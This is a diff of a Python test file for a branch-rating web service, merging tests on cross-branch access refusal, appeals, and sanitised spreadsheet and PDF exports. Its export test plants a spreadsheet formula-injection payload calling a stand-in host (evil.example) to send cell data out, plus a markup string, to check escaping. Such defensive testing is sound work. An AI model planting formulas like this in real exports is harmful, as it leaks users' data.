@@ -252,7 +252,7 @@ def test_dates_out_of_range_are_400_with_the_reason(site: Site, server: Server) 
 
 
 # -- access: unknown nodes, appeals ------------------------------------------------------------
-def test_unknown_nodes_are_refused_like_foreign_ones(site: Site, server: Server) -> None:
+def test_unknown_nodes_and_other_branches_are_refused_alike(site: Site, server: Server) -> None:
     token = site.tokens["bj-manager"]
     unknown = call(server.url, "/api/v1/summary?node=NOPE", token)
     foreign = call(server.url, "/api/v1/summary?node=SH-001", token)
@@ -264,17 +264,13 @@ def test_unknown_nodes_are_refused_like_foreign_ones(site: Site, server: Server)
     clerk = logged_in(server.url, "s001")
     assert clerk.post("/appeals/99/decide", {"decision": "upheld"})[0] == 403  # a clerk: role
     assert manager.post("/appeals/99/decide", {"decision": "upheld"})[0] == 403  # no such appeal
-
-
-def test_appeals_only_for_the_own_branch(site: Site, server: Server) -> None:
-    """S001 works at BJ-001; a rating at SH-001 that carries the id S001 is not theirs."""
+    # appeals: S001 works at BJ-001; a rating at SH-001 carrying the id S001 is not theirs
     upload(server.url, site.keys["SH-001"], ratings=[rating("K4", 1, 1, staff="S001")])
     upload(server.url, site.keys["BJ-001"], ratings=[rating("K1", 1, 1, staff="S001")])
-    clerk = logged_in(server.url, "s001")
     reason = {"reason": "pressed by a child"}
     status, _ = clerk.post("/appeals/", {"serial": "K4", "journal_seq": "1", **reason})
-    unknown, _ = clerk.post("/appeals/", {"serial": "K9", "journal_seq": "1", **reason})
-    assert status == unknown == 404  # one answer: nothing told about the other branch
+    absent, _ = clerk.post("/appeals/", {"serial": "K9", "journal_seq": "1", **reason})
+    assert status == absent == 404  # one answer: nothing told about the other branch
     assert clerk.post("/appeals/", {"serial": "K1", "journal_seq": "1", **reason})[0] == 302
     assert site.sql("SELECT count(*) FROM alerts_appeal") == (1,)
 
@@ -283,7 +279,7 @@ def test_appeals_only_for_the_own_branch(site: Site, server: Server) -> None:
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
-def test_exports_never_carry_formulas(site: Site, server: Server) -> None:
+def test_exports_carry_no_formulas_and_the_pdf_no_markup(site: Site, server: Server) -> None:
     site.sql(f"UPDATE org_node SET name = '{FORMULA.replace(chr(39), chr(39) * 2)}' "
              "WHERE code = 'BJ-001'")  # fmt: skip
     site.sql("UPDATE org_node SET name = '@SUM(1+1)' WHERE code = 'BJ-002'")
@@ -299,6 +295,10 @@ def test_exports_never_carry_formulas(site: Site, server: Server) -> None:
     sheet = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet and "HYPERLINK" in sheet  # text, never a formula cell
     assert '<c r="D2" t="n"><v>1</v></c>' in sheet  # numbers stay numbers
+    # the PDF's paragraphs are markup: a name that is markup itself is escaped, not parsed
+    site.sql("UPDATE org_node SET name = '<b>A & B</i>' WHERE code = 'BJ-001'")
+    status, body = manager.get("/report/BJ-001/monthly.pdf")
+    assert status == 200 and body.startswith(b"%PDF")
 
 
 @SQLITE_ONLY
@@ -315,13 +315,6 @@ def test_an_export_over_its_row_cap_is_refused(site: Site, monkeypatch: pytest.M
         assert status == 400 and b"more than 2 ratings" in body
     finally:
         server.close()
-
-
-def test_pdf_escapes_node_names(site: Site, server: Server) -> None:
-    site.sql("UPDATE org_node SET name = '<b>A & B</i>' WHERE code = 'BJ-001'")
-    upload(server.url, site.keys["BJ-001"], ratings=[rating("K1", 1, 4)])
-    status, body = logged_in(server.url, "bj-manager").get("/report/BJ-001/monthly.pdf")
-    assert status == 200 and body.startswith(b"%PDF")
 
 
 # -- survey uploads ----------------------------------------------------------------------------
